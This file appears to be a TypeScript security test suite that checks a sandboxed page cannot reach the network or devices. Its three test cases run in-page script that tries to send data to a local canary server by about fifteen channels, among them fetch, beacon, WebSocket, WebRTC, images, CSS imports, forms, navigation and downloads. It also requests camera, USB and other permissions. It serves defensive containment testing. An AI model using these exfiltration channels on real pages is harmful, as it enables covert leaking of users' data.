import assert from 'node:assert/strict'
import { connect } from 'node:net'
import { once } from 'node:events'
import type { Attack } from '../attack.ts'
import type { PageWorld } from './index.ts'

/** T3, by what the browser itself has to reach a network or a device. */
export const network: readonly Attack<PageWorld>[] = [
  {
    id: 'T3-09',
    by: 'page',
    requirements: ['T3', 'R5'],
    attack:
      'Sends what it knows by fetch, beacon, sockets, events, images, styles, fonts, frames, workers, forms and WebRTC',
    reaches: 'A server of its own',
    result: 'Not one packet arrives, over TCP or UDP',
    play: async ({ app, canary }) => {
      const before = canary.hits()
      await app.page.evaluate(async (port) => {
        const base = `http://127.0.0.1:${port}`
        const quiet = (attempt: () => unknown): Promise<unknown> =>
          Promise.resolve()
            .then(attempt)
            .catch(() => undefined)
        const add = (name: string, fields: object): Promise<unknown> =>
          quiet(() => document.body.append(Object.assign(document.createElement(name), fields)))
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })
        peer.createDataChannel('x')
        await peer.setLocalDescription(await peer.createOffer())
        await Promise.all([
          quiet(() => fetch(`${base}/fetch`)),
          quiet(() => fetch(`${base}/no-cors`, { mode: 'no-cors', keepalive: true })),
          quiet(() => navigator.sendBeacon(`${base}/beacon`, 'x')),
          quiet(() => new WebSocket(`ws://127.0.0.1:${port}`)),
          quiet(() => new EventSource(`${base}/events`)),
          quiet(() => new Worker(`${base}/worker.js`)),
          quiet(() => navigator.serviceWorker.register('/sw.js')),
          add('img', { src: `${base}/image` }),
          add('iframe', { src: `${base}/frame` }),
          add('object', { data: `${base}/object` }),
          add('video', { src: `${base}/video` }),
          add('link', { rel: 'prefetch', href: `${base}/prefetch` }),
          add('link', { rel: 'dns-prefetch', href: base }),
          add('link', { rel: 'stylesheet', href: `${base}/sheet.css` }),
          add('style', {
            textContent: `@import url(${base}/import.css); body { background: url(${base}/background.png) }`,
          }),
        ])
        await quiet(() => {
          const form = Object.assign(document.createElement('form'), { action: `${base}/form`, method: 'post' })
          document.body.append(form)
          form.submit()
        })
        await new Promise((resolve) => setTimeout(resolve, 500))
        peer.close()
        for (const left of document.querySelectorAll('body > :not(#app, script)')) left.remove()
      }, canary.port)
      assert.equal(canary.hits(), before)
      // The listener does count.
      await once(connect(canary.port, '127.0.0.1'), 'close')
      assert.equal(canary.hits(), before + 1)
    },
  },
  {
    id: 'T3-10',
    by: 'page',
    requirements: ['T3', 'R6'],
    attack: 'Goes to another address, opens windows, downloads a file',
    reaches: 'A server of its own, with what it knows in the address',
    result: 'The page stays where it is; nothing arrives',
    play: async ({ app, canary }) => {
      const { page } = app
      const before = [canary.hits(), page.url()]
      await page.evaluate((port) => {
        const base = `http://127.0.0.1:${port}`
        window.open(`${base}/window`)
        Object.assign(document.createElement('a'), { href: `${base}/link`, target: '_blank' }).click()
        Object.assign(document.createElement('a'), { href: `${base}/file`, download: 'x' }).click()
        location.href = `${base}/navigation`
      }, canary.port)
      await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)))
      assert.deepEqual([canary.hits(), page.url()], before)
    },
  },
  {
    id: 'T3-11',
    by: 'page',
    requirements: ['T3', 'R6'],
    attack: 'Asks for camera, microphone, place, notifications, USB, HID, serial ports, MIDI and the screen',
    reaches: 'The room, the machine’s devices, other windows',
    result: 'Every one is denied or not there',
    play: async ({ app }) => {
      const granted = await app.page.evaluate(async () => {
        const world = navigator as unknown as Record<
          string,
          Record<string, (options: object) => Promise<unknown>> | undefined
        >
        const asks: readonly (readonly [name: string, ask: () => unknown])[] = [
          ['camera', () => world['mediaDevices']?.['getUserMedia']?.({ video: true, audio: true })],
          ['screen', () => world['mediaDevices']?.['getDisplayMedia']?.({ video: true })],
          ['usb', () => world['usb']?.['requestDevice']?.({ filters: [] })],
          ['hid', () => world['hid']?.['requestDevice']?.({ filters: [] })],
          ['serial', () => world['serial']?.['requestPort']?.({})],
          ['midi', () => (navigator as unknown as { requestMIDIAccess?: () => unknown }).requestMIDIAccess?.()],
          ['place', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))],
        ]
        const got: string[] = []
        for (const [name, ask] of asks) {
          // What is not answered is not granted.
          const late = new Promise((resolve) => setTimeout(() => resolve(undefined), 1_000))
          const value = await Promise.race([late, Promise.resolve().then(ask)]).catch(() => undefined)
          // An empty list is what was chosen, which is nothing.
          if (value !== undefined && !(Array.isArray(value) && value.length === 0)) got.push(name)
        }
        if (Notification.permission === 'granted') got.push('notifications')
        return got
      })
      assert.deepEqual(granted, [])
    },
  },
]
